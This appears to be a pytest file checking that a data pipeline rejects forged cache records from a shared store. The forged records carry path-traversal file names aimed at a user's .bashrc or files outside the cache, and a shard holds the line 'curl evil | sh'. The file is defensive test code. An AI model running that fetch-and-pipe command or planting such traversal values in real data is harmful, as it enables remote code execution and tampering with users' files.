"""Caches that somebody else made: what they say is checked before anything is done with it."""

import pytest

from pipeline import open_cache
from pipeline.cache.commits import SHARDS, commit_path
from pipeline.cache.repair import repair_cache
from pipeline.cache.verify import verify_cache
from pipeline.errors import CacheCorruptError
from pipeline.files import hash_file
from pipeline.lifecycle.export import export_cache
from pipeline.lifecycle.settings import ExportConfig
from pipeline.stores.sealed import read_json, write_json
from tests.support.object_store import put_cache
from tests.support.small import make_cache

SHELL = b"curl evil | sh\n"


def forge(url, **changes):
    """Another record of partition 0, with a seal that fits; the shard itself is a line of shell."""
    record = read_json(commit_path(url, 0), CacheCorruptError)
    (url / SHARDS / record["file"]).write(SHELL)
    write_json(commit_path(url, 0), record | {"bytes": len(SHELL)} | changes)


@pytest.mark.parametrize("name", ["../../.bashrc", "{home}/.bashrc"])
@pytest.mark.parametrize("field", ["xxh3_128", "file"])
def test_record_of_a_strangers_cache_in_a_store_names_no_file_of_the_reader(
    url, corpus, tmp_path, monkeypatch, field, name
):
    put_cache(make_cache(tmp_path / "made", corpus), url)
    home = tmp_path / "home"
    (home / ".cache" / "copies").mkdir(parents=True)
    monkeypatch.setenv("LOGIT_CACHE_DIR", str(home / ".cache" / "copies"))
    (home / ".bashrc").write_text("mine\n")
    forge(url, **{field: name.format(home=home)})
    for use in (
        lambda: open_cache(url)[0],
        lambda: export_cache(ExportConfig(cache=url, to="parquet", out=tmp_path / "out", temperature=1.0, workers=1)),
    ):
        with pytest.raises(CacheCorruptError, match=rf"00000\.json: {field} is "):
            use()
    report = verify_cache(url)
    assert report.damaged == [0]
    assert f"{commit_path(url, 0)}: {field} is " in report.problems[0]
    repair_cache(url, report)
    assert (home / ".bashrc").read_text() == "mine\n"
    assert sorted(path.name for path in home.iterdir()) == [".bashrc", ".cache"]


def test_record_in_a_folder_names_no_file_outside_it(corpus, tmp_path):
    folder = make_cache(tmp_path / "made", corpus)
    record = read_json(commit_path(folder, 0), CacheCorruptError)
    secret = tmp_path / "secret"
    (folder / SHARDS / record["file"]).rename(secret)
    assert hash_file(secret) == record["xxh3_128"]
    for name in ("../../secret", str(secret)):
        write_json(commit_path(folder, 0), record | {"file": name})
        with pytest.raises(CacheCorruptError, match=r"00000\.json: file is "):
            open_cache(folder)[0]
        assert verify_cache(folder).damaged == [0]
        assert secret.is_file()
